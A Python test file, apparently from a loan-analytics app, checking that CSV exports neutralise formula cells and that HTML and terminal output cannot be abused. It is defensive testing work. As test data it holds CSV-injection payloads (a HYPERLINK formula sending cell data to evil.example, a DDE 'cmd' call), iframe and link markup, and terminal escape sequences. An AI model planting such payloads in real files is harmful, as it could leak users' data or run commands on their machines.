"""Outputs that cannot be turned against users (issue 16): formula cells neutralised in every CSV,
no data value inside HTML on the Risk page, no control characters on the terminal."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path

import pandas as pd
from hypothesis import given
from hypothesis import strategies as st

from analytics import exports, store
from analytics.cli import main
from analytics.ingest import run_import
from analytics.security import outputs

ROOT = Path(__file__).resolve().parent.parent
# Each starts a formula in Excel / LibreOffice / Google Sheets (OWASP CSV Injection).
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]
HARMLESS = ["Henan", "a=b", "2026-09", "王伟", ""]


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_bytes_neutralises_every_formula_start_and_keeps_numbers():
    frame = pd.DataFrame({"dealer": HOSTILE + HARMLESS[:1], "balance": [-5.5, 1, 2, 3, 4, 5, 6]})
    rows = _cells(outputs.csv_bytes(frame))
    assert rows[0] == ["dealer", "balance"]
    assert [r[0] for r in rows[1:]] == ["'" + h for h in HOSTILE] + ["Henan"]
    assert rows[1][1] == "-5.5"  # a negative number is a number, not a formula: unchanged


def test_headers_are_neutralised_too():
    rows = _cells(outputs.csv_bytes(pd.DataFrame({"=cmd": ["x"]})))
    assert rows[0] == ["'=cmd"]


@given(st.text(max_size=30))
def test_no_cell_of_any_text_starts_a_formula(text):
    (cell,) = _cells(outputs.csv_bytes(pd.DataFrame({"v": [text]})))[1] or [""]
    assert not cell.startswith(outputs.FORMULA_START)
    assert cell in (text, "'" + text) or text in ("", "\r")  # only ever the prefix added


def test_cli_export_neutralises_a_formula_cell(small_db, tmp_path, monkeypatch):
    monkeypatch.setitem(exports.EXPORTS, "hostile", lambda t: pd.DataFrame({"dealer": HOSTILE, "n": range(6)}))
    monkeypatch.setattr("analytics.cli.EXPORTS", exports.EXPORTS)
    out = tmp_path / "x.csv"
    assert main(["--db", str(small_db), "export", "hostile", "--out", str(out)]) == 0
    cells = [r[0] for r in _cells(out.read_bytes())[1:]]
    assert cells == ["'" + h for h in HOSTILE]


def test_rejected_rows_csv_is_neutralised(tmp_path):
    book = tmp_path / "perf.csv"
    book.write_text("loan_id,as_of_month,days_past_due,closing_balance,origination_date,original_amount,term_months\n"
                    "A1,2026-06-01,0,100,2025-01-01,5000,36\n"
                    '"=HYPERLINK(""http://evil"")",2026-06-01,-1,100,2025-01-01,5000,36\n')
    out = tmp_path / "rejected.csv"
    con = store.open_duckdb(tmp_path / "s.duckdb")
    try:
        run_import(con, [book], threshold=1.0, rejected_out=out, today=dt.date(2026, 11, 29))
    finally:
        con.close()
    frame = pd.read_csv(out, dtype=str)
    assert frame.loan_id.tolist() == ["'=HYPERLINK(\"http://evil\")"]
    assert not any(str(v).startswith(outputs.FORMULA_START) for v in frame.to_numpy().ravel())


def test_every_download_button_goes_through_the_neutraliser():
    """A CSV download anywhere in the UI is built by outputs.csv_bytes (JSON, PPTX and HTML are not CSV)."""
    for path in [*ROOT.glob("pages/*.py"), *ROOT.glob("ui/**/*.py"), ROOT / "app.py"]:
        text = path.read_text(encoding="utf-8")
        assert ".to_csv(" not in text, f"{path.name} writes CSV without outputs.csv_bytes"


def test_no_html_with_data_on_the_pages():
    """unsafe_allow_html appears only for the frame's fixed CSS, never beside a data value."""
    hits = []
    for path in [*ROOT.glob("pages/*.py"), *ROOT.glob("ui/**/*.py"), ROOT / "app.py"]:
        for line in path.read_text(encoding="utf-8").splitlines():
            if "unsafe_allow_html=True" in line:
                hits.append((path.name, line.strip()))
    assert [name for name, _ in hits] == ["frame.py"]  # the frame's fixed <style> block, no data in it


def test_markdown_text_cannot_make_links_images_or_html():
    shown = outputs.markdown_text('![x](http://evil/i.png) <iframe src="http://evil"> [go](http://evil)')
    assert not re.search(r"(?<!\\)[\[\]<>!]", shown)


def test_terminal_text_strips_escapes_and_control_characters():
    assert outputs.terminal_text("book\x1b[2J\x1b]0;owned\x07\r_2026\x9b31m.csv\n") == "book_202631m.csv\n"


def test_cli_prints_no_escape_sequences_of_a_file_name(tmp_path, capsys):
    evil = tmp_path / "x\x1b[31mred\x1b[0m.csv"
    evil.write_text("loan_id,as_of_month,days_past_due\nA,2026-06-01,-1\n")
    assert main(["--db", str(tmp_path / "s.duckdb"), "import", str(evil), "--check"]) in (0, 2)
    captured = capsys.readouterr()
    assert "\x1b" not in captured.out + captured.err and "red" in captured.out + captured.err
